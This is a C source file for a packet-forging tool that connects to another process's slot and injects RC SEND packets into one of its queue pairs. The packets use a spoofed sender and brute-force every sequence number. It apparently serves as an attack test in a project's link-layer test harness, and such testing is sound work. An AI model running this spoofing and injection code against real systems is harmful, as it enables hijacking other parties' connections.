/*
 * Takes a slot, links to a process's slot, and sends SENDs to one of its queue pairs with each PSN
 * that it may expect, in the name of a queue pair of its own: the addresses fit, the sender does
 * not (issue: 2^24 PSNs were swept in 2 s, and SENDs came through).
 *
 * usage: forged-records SECONDS SLOT QP PSN ADDRESS CLIENT-ADDRESS
 */
#include "link.h"

#include <poll.h>

/*
 * Packets of a record; bytes of one: BTH and payload. Records are described in
 * `link/local/frame.rs`.
 */
enum { PACKETS = 512, PACKET = 16, HEAD = 44, RECORD = HEAD + PACKETS * (2 + PACKET) };
enum { RC_SEND_ONLY = 4 };

/* Everything but the PSNs. */
static void prepare(unsigned char *record, unsigned long own, unsigned long qp, char **addresses)
{
	unsigned long sender = own << 14 | 1;
	unsigned char head[8] = { 2, (unsigned char)sender, (unsigned char)(sender >> 8), (unsigned char)(sender >> 16),
		(unsigned char)PACKETS, PACKETS >> 8, 64, 0 };
	const unsigned char bth[12] = { RC_SEND_ONLY, 0, 0xff, 0xff, 0, (unsigned char)(qp >> 16), (unsigned char)(qp >> 8), (unsigned char)qp };

	memcpy(record, head, sizeof head);
	memset(record + 8, 0, 4);
	put_gid(record + 12, addresses[1]);
	put_gid(record + 28, addresses[0]);
	for (int i = 0; i < PACKETS; i++) {
		unsigned char *packet = record + HEAD + 2 * PACKETS + i * PACKET;

		record[HEAD + 2 * i] = PACKET;
		record[HEAD + 2 * i + 1] = 0;
		memcpy(packet, bth, sizeof bth);
		memcpy(packet + 12, "evil", 4);
	}
}

int main(int argc, char **argv)
{
	static unsigned char record[RECORD];
	unsigned long slot, own;
	uint32_t first, n = 0;
	int fd = -1;

	if (argc != 7)
		return 2;
	begin_attack(argv[1]);
	slot = number(argv[2], 1, SLOTS);
	own = take_slot();
	prepare(record, own, number(argv[3], 1, 0xffffff), argv + 5);
	first = (uint32_t)number(argv[4], 0, 0xffffff);
	while (goes_on()) {
		if (fd < 0 && (fd = link_to(slot, own)) < 0) {
			usleep(1000);
			continue;
		}
		for (int i = 0; i < PACKETS; i++) {
			unsigned char *at = record + HEAD + 2 * PACKETS + i * PACKET + 9;
			uint32_t next = tried_psn(first, n + (uint32_t)i);

			at[0] = (unsigned char)(next >> 16);
			at[1] = (unsigned char)(next >> 8);
			at[2] = (unsigned char)next;
		}
		if (send(fd, record, RECORD, MSG_DONTWAIT | MSG_NOSIGNAL) == RECORD) {
			attack.injected += PACKETS;
			n += PACKETS;
		} else if (errno == EAGAIN) {
			struct pollfd wait = { .fd = fd, .events = POLLOUT };

			poll(&wait, 1, 10);
		} else {
			close(fd);
			fd = -1;
		}
	}
	tell();
	return 0;
}
